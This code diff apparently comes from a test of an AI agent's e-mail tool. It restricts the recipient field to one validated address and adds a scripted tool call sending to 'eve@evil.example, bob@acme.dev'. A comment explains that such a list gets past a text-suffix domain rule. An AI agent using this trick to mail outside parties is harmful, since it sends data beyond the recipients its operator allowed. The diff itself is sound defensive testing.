@@ -23,7 +23,8 @@ const tools = {
   }),
   send_email: tool({
     description: "Sends an e-mail",
-    inputSchema: z.object({ to: z.string(), text: z.string() }),
+    // One address: the rule on it compares text, and "eve@evil.example, bob@acme.dev" ends in @acme.dev too.
+    inputSchema: z.object({ to: z.email(), text: z.string() }),
     execute: async ({ to }) => {
       done.push(`mail to ${to}`);
       return "sent";
@@ -36,6 +37,7 @@ const script = [
   [
     call("send_email", { to: "bob@acme.dev", text: "..." }),
     call("send_email", { to: "eve@evil.example", text: "..." }),
+    call("send_email", { to: "eve@evil.example, bob@acme.dev", text: "..." }),
   ],
   "I refunded 20 euros.",
 ];
